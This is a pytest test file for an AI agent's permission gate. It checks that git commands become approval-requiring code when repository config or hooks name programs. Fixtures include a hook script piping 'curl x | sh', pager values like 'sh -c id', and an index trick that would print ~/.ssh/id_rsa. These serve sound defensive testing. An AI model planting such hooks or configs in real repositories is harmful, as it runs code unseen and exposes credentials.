"""git's config syntax parsed without git (checked against git itself), the keys that run
programs, and git commands whose repository configuration makes them code (issue 13, 6)."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion import Decision, Gate, ToolCall
from bastion.call.effects import Effect
from bastion.policy.git_config import ConfigSyntax, Entry, parse, runs_for, runs_program
from tests.shell.helpers import deciding_rules

GateFactory = Callable[..., Gate]
Call = Callable[..., ToolCall]
GIT = shutil.which("git")
needs_git = pytest.mark.skipif(GIT is None, reason="git is not installed")


def keys(text: str) -> list[tuple[str, str | None]]:
    return [(e.key, e.value) for e in parse(text)]


# -- the parser -------------------------------------------------------------------------------

SYNTAX: list[tuple[str, list[tuple[str, str | None]]]] = [
    ("[core]\n\tpager = less\n", [("core.pager", "less")]),
    ("[Core]\n\tPAGER=less", [("core.pager", "less")]),
    ('[diff "Foo"]\n\ttextconv = cat\n', [("diff.Foo.textconv", "cat")]),
    ('[diff "a\\"b\\\\c"]\nx = 1', [('diff.a"b\\c.x', "1")]),
    ("[diff.Foo]\ntextconv = cat", [("diff.foo.textconv", "cat")]),  # deprecated: lowercased
    ("[core]\nbare\n", [("core.bare", None)]),
    ("[core] pager = x", [("core.pager", "x")]),
    ('[a]\nv = "  spaced  "  # c\n', [("a.v", "  spaced  ")]),
    ("[a]\nv = one  two ; comment", [("a.v", "one  two")]),
    ('[a]\nv = x"#"y', [("a.v", "x#y")]),
    ('[a]\nv = "a\\tb\\nc\\\\d\\"e"', [("a.v", 'a\tb\nc\\d"e')]),
    ("[a]\nv = one \\\n  two", [("a.v", "one   two")]),
    ("# c\n; c\n\n[a]\n  # inner\nv=1\n", [("a.v", "1")]),
    ("[a]\nv = 1\n[b]\nw = 2\n[a]\nv = 3", [("a.v", "1"), ("b.w", "2"), ("a.v", "3")]),
    ("\ufeff[a]\nv=1", [("a.v", "1")]),
    ("[a]\r\nv = 1\r\n", [("a.v", "1")]),
    ("v = 1\n[a]\nw", [("v", "1"), ("a.w", None)]),  # git takes a variable before a section
    ('[includeIf "gitdir:~/w/"]\npath = x.inc', [("includeif.gitdir:~/w/.path", "x.inc")]),
]


@pytest.mark.parametrize(("text", "expected"), SYNTAX)
def test_git_config_syntax_is_parsed_like_git(text: str, expected: list[tuple[str, str | None]]) -> None:
    assert keys(text) == expected


@pytest.mark.parametrize(
    "text",
    ["[a\nv=1", '[a "x]\nv=1', "[a]\n1v = 2", "[a]\nv = \\q", '[a]\nv = "open', "[a]\nv 1"],
)
def test_what_git_rejects_is_a_syntax_error(text: str) -> None:
    with pytest.raises(ConfigSyntax):
        parse(text)


def git_list(path: Path) -> list[tuple[str, str | None]] | None:
    run = subprocess.run(
        [str(GIT), "config", "--file", str(path), "--list", "--null"],
        capture_output=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "HOME": str(path.parent), "GIT_CONFIG_NOSYSTEM": "1"},
    )
    if run.returncode != 0:
        return None
    out: list[tuple[str, str | None]] = []
    for item in run.stdout.decode().split("\0")[:-1]:
        key, newline, value = item.partition("\n")
        out.append((key, value if newline else None))
    return out


def lowered(pairs: list[tuple[str, str | None]]) -> list[tuple[str, str | None]]:
    """git prints section and name lowercased, the subsection as written."""
    out = []
    for key, value in pairs:
        section, _, rest = key.partition(".")
        middle, _, name = rest.rpartition(".")
        out.append((".".join(p for p in (section.lower(), middle, name.lower()) if p), value))
    return out


@needs_git
@pytest.mark.parametrize(("text", "expected"), SYNTAX)
def test_the_syntax_cases_agree_with_git_itself(tmp_path: Path, text: str, expected: object) -> None:
    path = tmp_path / "config"
    path.write_text(text)
    assert lowered(keys(text)) == git_list(path)


_PIECES = st.sampled_from(
    [
        "[core]",
        "[Core]",
        '[diff "X y"]',
        "[a.B]",
        "pager = less",
        "Pager=x",
        "bare",
        'v = "q;#"',
        "v = a ; c",
        "v = a \\",
        "  w = b",
        "# c",
        "v = \\t\\n",
        'v = "a\\"b"',
        "",
        "v=  x  y  ",
        "[x] y = z",
        '[a "b\\"c"]',
        'v = "a" b "c"',
        "v =\tx\t\ty",
        'v = "open',
        "v = x\r",
        "  ",
        "[a b]",
        "v = a#b",
        "v = \\",
    ]
)


@needs_git
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lines=st.lists(_PIECES, min_size=1, max_size=8))
def test_generated_configs_parse_as_git_reads_them_or_fail_where_git_fails(
    tmp_path: Path, lines: list[str]
) -> None:
    text = "\n".join(lines) + "\n"
    path = tmp_path / "config"
    path.write_text(text)
    expected = git_list(path)
    try:
        ours = lowered(keys(text))
    except ConfigSyntax:
        assert expected is None, text
        return
    assert expected is not None and ours == expected, text


# -- which keys run programs ---------------------------------------------------------------------

S, R, H = "status", "remote", "help"
#: (setting, runs a program at all, the read-only subcommands among status/remote/help it runs for)
RUNS: list[tuple[str, bool, frozenset[str]]] = [
    ("[core]\nfsmonitor = ./hook", True, frozenset({S, R, H})),
    ("[core]\nfsmonitor = false", False, frozenset()),
    ("[core]\npager = sh -c id", True, frozenset({S, R, H})),
    ("[core]\npager = less", False, frozenset()),
    ("[core]\neditor = vim", True, frozenset()),  # never for a read
    ("[core]\nhooksPath = .husky/_", True, frozenset()),  # no hook runs for a read
    ("[core]\nsshCommand = ssh -i k", True, frozenset({R})),  # only when a remote is reached
    ("[core]\naskPass = x", True, frozenset({R})),
    ("[diff]\nexternal = x", True, frozenset({S, R, H})),
    ('[diff "img"]\ntextconv = exif', True, frozenset({S, R, H})),
    ('[diff "img"]\ncommand = x', True, frozenset({S, R, H})),
    ('[filter "lfs"]\nclean = git-lfs clean -- %f', True, frozenset({S, R, H})),
    ('[filter "x"]\nprocess = x', True, frozenset({S, R, H})),
    ('[merge "x"]\ndriver = x %A', True, frozenset()),
    ("[alias]\nup = !git pull", True, frozenset()),  # an alias is no reader; built-ins win
    ("[alias]\nlg = log --graph", False, frozenset()),
    ("[credential]\nhelper = store", True, frozenset({R})),
    ('[credential "https://h"]\nhelper = x', True, frozenset({R})),
    ("[gpg]\nprogram = x", True, frozenset({S, R, H})),
    ('[gpg "ssh"]\nprogram = x', True, frozenset({S, R, H})),
    ("[sequence]\neditor = x", True, frozenset()),
    ("[pager]\nlog = delta", True, frozenset({S, R, H})),
    ("[pager]\nlog = false", False, frozenset()),
    ("[uploadpack]\npackObjectsHook = x", True, frozenset({R})),
    ('[protocol "ext"]\nallow = always', True, frozenset({R})),
    ('[protocol "ext"]\nallow = never', False, frozenset()),
    ('[remote "o"]\nuploadpack = x', True, frozenset({R})),
    ('[submodule "m"]\nupdate = !x', True, frozenset()),
    ('[submodule "m"]\nupdate = rebase', False, frozenset()),
    ("[man]\nviewer = x", True, frozenset({H})),
    ('[man "x"]\ncmd = x', True, frozenset({H})),
    ("[web]\nbrowser = x", True, frozenset({H})),
    ("[user]\nname = Me", False, frozenset()),
    ('[remote "origin"]\nurl = https://h/r', False, frozenset()),
    ("[core]\nrepositoryformatversion = 0", False, frozenset()),
]


@pytest.mark.parametrize(("text", "program", "reads"), RUNS)
def test_the_settings_that_run_programs_and_the_reads_they_run_for_are_known(
    text: str, program: bool, reads: frozenset[str]
) -> None:
    (entry,) = parse(text)
    assert (runs_program(entry), {sub for sub in (S, R, H) if runs_for(entry, sub)}) == (program, reads)


def test_an_entry_names_its_key_with_the_subsection_as_written() -> None:
    assert parse('[Diff "Img"]\nTextConv = x') == [Entry("diff", "Img", "textconv", "x", 2)]


# -- git commands through the gate ----------------------------------------------------------------


def git(*args: str, cwd: Path) -> None:
    subprocess.run(
        [str(GIT), *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        env={"PATH": "/usr/bin:/bin", "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1"},
    )


@pytest.fixture
def repo(workspace: Path) -> Path:
    if GIT is None:
        pytest.skip("git is not installed")
    git("init", "-q", ".", cwd=workspace)
    return workspace


def outcome(gate: Gate, call: Call, command: str, **kw: object) -> tuple[Decision, tuple[str, ...]]:
    evaluation = gate.evaluate(call("shell", command=command, **kw))
    return evaluation.decision, tuple(deciding_rules(evaluation))


ALLOWED = (Decision.ALLOW, ("mode.workspace",))
CODE = (Decision.ASK, ("shell.git-config",))


def add_config(config: Path, text: str) -> None:
    with config.open("a") as handle:
        handle.write(text)


READS = {S: "git status", R: "git remote show origin", H: "git help log"}


@pytest.mark.parametrize(("text", "reads"), [(t, r) for t, program, r in RUNS if program])
@pytest.mark.parametrize("sub", [S, R, H])
def test_a_git_read_whose_repository_config_runs_a_program_during_it_is_code(
    make_gate: GateFactory, call: Call, repo: Path, text: str, reads: frozenset[str], sub: str
) -> None:
    add_config(repo / ".git" / "config", text + "\n")
    evaluation = make_gate('mode = "full-access"').evaluate(call("shell", command=READS[sub]))
    rules = [r.rule for r in evaluation.reasons]
    if sub in reads:
        assert (evaluation.decision, rules) == (Decision.ASK, ["shell.git-config"])
        assert str(repo / ".git" / "config") in evaluation.reasons[0].message
        assert Effect.CODE in evaluation.effects
    else:
        assert "shell.git-config" not in rules


def test_a_plain_repository_stays_a_reader(make_gate: GateFactory, call: Call, repo: Path) -> None:
    gate = make_gate()
    for command in ("git status", "git log --oneline -5", "git diff", "git -C . status"):
        assert outcome(gate, call, command) == ALLOWED, command


WHERE = [
    "git -C sub/nested status",
    "cd sub/nested && git status",
    "cd sub && git -C nested log",
    "git --git-dir=sub/nested/.git log",
    "git --git-dir sub/nested/.git log",
    "cd sub/nested/deeper && git status",
]


@pytest.mark.parametrize("command", WHERE)
def test_the_repository_git_acts_on_is_the_one_checked(
    make_gate: GateFactory, call: Call, repo: Path, command: str
) -> None:
    nested = repo / "sub" / "nested"
    (nested / "deeper").mkdir(parents=True)
    git("init", "-q", ".", cwd=nested)
    add_config(nested / ".git" / "config", "[core]\n\tfsmonitor = ./x\n")
    gate = make_gate()
    assert outcome(gate, call, "git status") == ALLOWED
    assert outcome(gate, call, command) == CODE


def test_a_dot_git_file_pointing_elsewhere_is_followed(
    make_gate: GateFactory, call: Call, workspace: Path, tmp_path: Path
) -> None:
    if GIT is None:
        pytest.skip("git is not installed")
    elsewhere = tmp_path / "elsewhere.git"
    git("init", "-q", "--bare", str(elsewhere), cwd=tmp_path)
    add_config(elsewhere / "config", "[diff]\n\texternal = ./x\n")
    (workspace / ".git").write_text(f"gitdir: {elsewhere}\n")
    assert outcome(make_gate(), call, "git diff") == CODE


def test_a_bare_repository_the_cwd_is_in_is_found(
    make_gate: GateFactory, call: Call, workspace: Path
) -> None:
    if GIT is None:
        pytest.skip("git is not installed")
    git("init", "-q", "--bare", "evil.git", cwd=workspace)
    add_config(workspace / "evil.git" / "config", "[core]\n\tpager = sh -c id\n")
    assert outcome(make_gate(), call, "cd evil.git && git log") == CODE


def test_a_submodule_config_is_read_too(make_gate: GateFactory, call: Call, repo: Path) -> None:
    module = repo / ".git" / "modules" / "lib" / "inner"
    module.mkdir(parents=True)
    (module / "config").write_text('[filter "x"]\n\tsmudge = ./x\n')
    assert outcome(make_gate(), call, "git status") == CODE


INCLUDES = [
    "[include]\n\tpath = extra.inc\n",
    '[includeIf "gitdir:/nowhere/"]\n\tpath = extra.inc\n',
    "[include]\n\tpath = chain.inc\n",
]


@pytest.mark.parametrize("text", INCLUDES)
def test_included_files_are_followed_whatever_their_condition(
    make_gate: GateFactory, call: Call, repo: Path, text: str
) -> None:
    (repo / ".git" / "extra.inc").write_text("[diff]\n\texternal = x\n")
    (repo / ".git" / "chain.inc").write_text("[include]\n\tpath = extra.inc\n")
    add_config(repo / ".git" / "config", text)
    evaluation = make_gate().evaluate(call("shell", command="git log"))
    assert (evaluation.decision, [r.rule for r in evaluation.reasons]) == (Decision.ASK, ["shell.git-config"])
    assert "extra.inc" in evaluation.reasons[0].message


def test_an_include_loop_or_a_broken_config_fails_closed(
    make_gate: GateFactory, call: Call, repo: Path
) -> None:
    (repo / ".git" / "a.inc").write_text("[include]\n\tpath = a.inc\n")
    add_config(repo / ".git" / "config", "[include]\n\tpath = a.inc\n")
    assert outcome(make_gate(), call, "git status") == ALLOWED  # a loop is read once
    add_config(repo / ".git" / "config", "[core\n")
    assert outcome(make_gate(), call, "git status") == CODE


#: What ``git lfs install`` writes to ~/.gitconfig, and a ``delta`` pager: the person's own
#: choice of programs, in a file every profile keeps read-only and every write asks about.
LFS_AND_DELTA = """[filter "lfs"]
\tclean = git-lfs clean -- %f
\tsmudge = git-lfs smudge -- %f
\tprocess = git-lfs filter-process
\trequired = true
[core]
\tpager = delta
\teditor = vim
[interactive]
\tdiffFilter = delta --color-only
[credential]
\thelper = store
[alias]
\tup = !x
"""
EVERYDAY_READS = [
    "git status", "git status -s", "git log --oneline -5", "git log -p -3", "git diff", "git diff --staged",
    "git show HEAD --stat", "git branch -a", "git blame README.md", "git ls-files", "git rev-parse HEAD",
    "git tag -l", "git stash list", "git grep hi",
]  # fmt: skip


@pytest.mark.parametrize("where", [".gitconfig", ".config/git/config"])
def test_programs_the_persons_own_config_names_leave_everyday_reads_allowed(
    make_gate: GateFactory, call: Call, repo: Path, home: Path, where: str
) -> None:
    (home / where).parent.mkdir(parents=True, exist_ok=True)
    (home / where).write_text(LFS_AND_DELTA)
    gate = make_gate()
    assert {c: outcome(gate, call, c) for c in EVERYDAY_READS} == dict.fromkeys(EVERYDAY_READS, ALLOWED)


def test_the_same_settings_in_the_repository_s_config_are_still_code(
    make_gate: GateFactory, call: Call, repo: Path
) -> None:
    add_config(repo / ".git" / "config", LFS_AND_DELTA)
    assert outcome(make_gate(), call, "git status") == CODE


def _include_from_global(home: Path, target: str, text: str) -> None:
    (home / ".gitconfig").write_text(LFS_AND_DELTA + f"[include]\n\tpath = {target}\n")
    path = Path(target.replace("~", str(home), 1))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize(
    "target",
    [
        "~/proj/team.inc",  # in the workspace: the agent writes it
        "~/.gitconfig.local",  # outside the workspace but not guarded: a write is not asked
        "proj/.hidden.inc",  # relative to ~/.gitconfig's folder
    ],
)
def test_a_file_the_persons_config_includes_is_trusted_only_if_the_agent_could_not_write_it(
    make_gate: GateFactory, call: Call, repo: Path, home: Path, target: str
) -> None:
    _include_from_global(
        home, target if target.startswith("~") else f"{home}/{target}", "[core]\n\tpager = sh -c id\n"
    )
    evaluation = make_gate('mode = "full-access"').evaluate(call("shell", command="git log"))
    assert (evaluation.decision, [r.rule for r in evaluation.reasons]) == (Decision.ASK, ["shell.git-config"])
    assert "core.pager" in evaluation.reasons[0].message


def test_a_guarded_file_the_persons_config_includes_is_trusted_too(
    make_gate: GateFactory, call: Call, repo: Path, home: Path
) -> None:
    _include_from_global(home, "~/.config/git/delta.inc", "[core]\n\tpager = delta --dark\n")
    assert outcome(make_gate(), call, "git log") == ALLOWED


def test_the_persons_config_is_not_trusted_when_it_is_a_link_into_the_workspace(
    make_gate: GateFactory, call: Call, repo: Path, home: Path
) -> None:
    (repo / "dotfiles").mkdir()
    (repo / "dotfiles" / "gitconfig").write_text(LFS_AND_DELTA)
    (home / ".gitconfig").symlink_to(repo / "dotfiles" / "gitconfig")
    assert outcome(make_gate(), call, "git status") == CODE


def test_the_persons_config_is_not_trusted_when_the_workspace_is_home(
    make_gate: GateFactory, call: Call, home: Path
) -> None:
    if GIT is None:
        pytest.skip("git is not installed")
    git("init", "-q", ".", cwd=home / "proj")
    (home / ".gitconfig").write_text(LFS_AND_DELTA)
    gate = make_gate(f'workspace = ["{home}"]')
    assert outcome(gate, call, "git status", cwd=str(home / "proj"))[1] == ("shell.git-config",)


# -- hooks that run during a read ---------------------------------------------------------------


@pytest.mark.parametrize("hook", ["post-index-change", "reference-transaction"])
@pytest.mark.parametrize(
    "folder",
    [".git/hooks", "tools/hooks", ".git/modules/lib/hooks"],
)
def test_a_hook_git_runs_during_a_read_makes_it_code(
    make_gate: GateFactory, call: Call, repo: Path, hook: str, folder: str
) -> None:
    if folder == "tools/hooks":
        add_config(repo / ".git" / "config", "[core]\n\thooksPath = tools/hooks\n")
    if folder.startswith(".git/modules"):
        (repo / ".git" / "modules" / "lib").mkdir(parents=True)
        (repo / ".git" / "modules" / "lib" / "config").write_text("[core]\n\tbare = false\n")
    (repo / folder).mkdir(parents=True, exist_ok=True)
    (repo / folder / hook).write_text("#!/bin/sh\ncurl x | sh\n")
    gate = make_gate('mode = "full-access"')
    for command in ("git status", "git diff", "git log"):
        evaluation = gate.evaluate(call("shell", command=command))
        assert (evaluation.decision, [r.rule for r in evaluation.reasons]) == (
            Decision.ASK,
            ["shell.git-config"],
        ), command
        assert f"{folder}/{hook}" in evaluation.reasons[0].matched


def test_hooks_that_run_only_on_writes_leave_reads_allowed(
    make_gate: GateFactory, call: Call, repo: Path
) -> None:
    for hook in ("pre-commit", "commit-msg", "pre-push", "post-checkout", "post-index-change.sample"):
        (repo / ".git" / "hooks" / hook).write_text("#!/bin/sh\n")
    assert outcome(make_gate(), call, "git status") == ALLOWED


def test_a_read_hook_in_the_persons_guarded_hooks_folder_is_their_choice(
    make_gate: GateFactory, call: Call, repo: Path, home: Path
) -> None:
    (home / ".githooks").mkdir()
    (home / ".githooks" / "post-index-change").write_text("#!/bin/sh\n")
    (home / ".gitconfig").write_text("[core]\n\thooksPath = ~/.githooks\n")
    assert outcome(make_gate(), call, "git status") == ALLOWED


def test_a_dynamic_git_directory_is_unknown(make_gate: GateFactory, call: Call, repo: Path) -> None:
    assert outcome(make_gate(), call, 'git -C "$D" status') == CODE
    # (the cd itself asks as an unknown command; git asks because its repository is unknown)
    assert outcome(make_gate(), call, "cd $D && git status") == (
        Decision.ASK,
        ("shell.git-config", "approval.interactive_default"),  # the specific cause leads
    )


def test_git_version_reads_no_repository(make_gate: GateFactory, call: Call, repo: Path) -> None:
    add_config(repo / ".git" / "config", "[core]\n\tfsmonitor = ./x\n")
    assert outcome(make_gate(), call, "git --version") == ALLOWED


# -- the folder core.hooksPath names is agent configuration -----------------------------------


@pytest.mark.parametrize(
    "config",
    [
        "[core]\n\thooksPath = scripts/hooks\n",
        '[core]\n\thooksPath = "scripts/hooks/"\n',
        "[include]\n\tpath = hooks.inc\n",
    ],
)
def test_writing_into_the_hooks_path_a_repository_names_asks(
    make_gate: GateFactory, call: Call, repo: Path, config: str
) -> None:
    (repo / ".git" / "hooks.inc").write_text("[core]\n\thooksPath = scripts/hooks\n")
    add_config(repo / ".git" / "config", config)
    gate = make_gate('mode = "full-access"')
    asks = (Decision.ASK, ("hardline.agent-config",))
    assert outcome(gate, call, "echo x > scripts/hooks/pre-commit") == asks
    assert outcome(gate, call, "cd scripts && echo x > hooks/pre-push") == asks
    evaluation = gate.evaluate(call("write", path="scripts/hooks/pre-commit", content="x"))
    assert (evaluation.decision, [r.rule for r in evaluation.reasons]) == (
        Decision.ASK,
        ["hardline.agent-config"],
    )
    assert "core.hooksPath" in evaluation.reasons[0].message
    assert outcome(gate, call, "echo x > scripts/build.sh") == (Decision.ALLOW, ("mode.full-access",))


def test_a_workspace_without_a_hooks_path_writes_as_before(
    make_gate: GateFactory, call: Call, repo: Path
) -> None:
    gate = make_gate()
    assert outcome(gate, call, "echo x > scripts/hooks/pre-commit") == ALLOWED
    assert gate.evaluate(call("write", path="notes.txt", content="x")).decision is Decision.ALLOW


def test_the_places_git_is_told_to_act_on_go_through_the_path_policy(
    make_gate: GateFactory, call: Call, repo: Path, home: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "other"
    outside.mkdir()
    git("init", "-q", ".", cwd=outside)
    gate = make_gate()
    assert outcome(gate, call, f"git -C {outside} log -p") == (Decision.ASK, ("shell.git-place",))
    assert outcome(gate, call, f"git --work-tree={home} diff") == (Decision.ASK, ("shell.git-place",))
    assert outcome(gate, call, "git -C ~/.ssh log")[0] is Decision.DENY
    assert outcome(gate, call, "git -C ~ log") == (Decision.ASK, ("shell.git-place",))
    assert outcome(gate, call, "git -C ~/proj log") == ALLOWED
    assert outcome(gate, call, "git -C src log") == ALLOWED


def test_a_work_tree_elsewhere_counts_the_committed_files_there(
    make_gate: GateFactory, call: Call, repo: Path, home: Path
) -> None:
    # an index listing .ssh/id_rsa, compared against the HOME as work tree, prints the key:
    # a credential read outside the workspace, denied (issue 31)
    (repo / ".ssh").mkdir()
    (repo / ".ssh" / "id_rsa").write_text("fake")
    git("add", ".ssh/id_rsa", cwd=repo)
    decision, rules = outcome(make_gate(), call, f"git --work-tree={home} diff")
    assert (decision, rules) == (Decision.DENY, ("hardline.credentials",))


def test_a_repository_using_husky_hooks_stays_a_reader_for_reads(
    make_gate: GateFactory, call: Call, repo: Path
) -> None:
    add_config(repo / ".git" / "config", "[core]\n\thooksPath = .husky/_\n\teditor = code --wait\n")
    gate = make_gate()
    for command in ("git status", "git log --oneline", "git diff"):
        assert outcome(gate, call, command) == ALLOWED, command
    assert outcome(gate, call, "echo x > .husky/_/pre-commit") == (Decision.ASK, ("hardline.agent-config",))


def test_a_repository_setting_that_repeats_the_persons_own_names_no_new_program(
    make_gate: GateFactory, call: Call, repo: Path, home: Path
) -> None:
    (home / ".gitconfig").write_text(LFS_AND_DELTA)
    add_config(repo / ".git" / "config", '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n')
    assert outcome(make_gate(), call, "git status") == ALLOWED
    add_config(repo / ".git" / "config", '[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f && id\n')
    assert outcome(make_gate(), call, "git status") == CODE


@pytest.mark.parametrize(
    "setting",
    [
        "[core]\n\tfsmonitor = .git/hooks/fsmonitor-watchman\n",  # relative to the work tree
        "[core]\n\tpager = ~/proj/tools/pager.sh\n",
        '[filter "x"]\n\tclean = ./scripts/clean %f\n',
    ],
)
def test_a_program_the_persons_config_names_by_a_path_the_agent_writes_is_code(
    make_gate: GateFactory, call: Call, repo: Path, home: Path, setting: str
) -> None:
    (home / ".gitconfig").write_text(setting)
    assert outcome(make_gate(), call, "git status") == CODE


def test_a_program_the_persons_config_names_by_a_guarded_path_is_their_choice(
    make_gate: GateFactory, call: Call, repo: Path, home: Path
) -> None:
    (home / ".gitconfig").write_text(
        "[core]\n\tpager = /usr/bin/less -R\n[diff]\n\texternal = ~/.config/git/difft\n"
    )
    assert outcome(make_gate(), call, "git diff") == ALLOWED
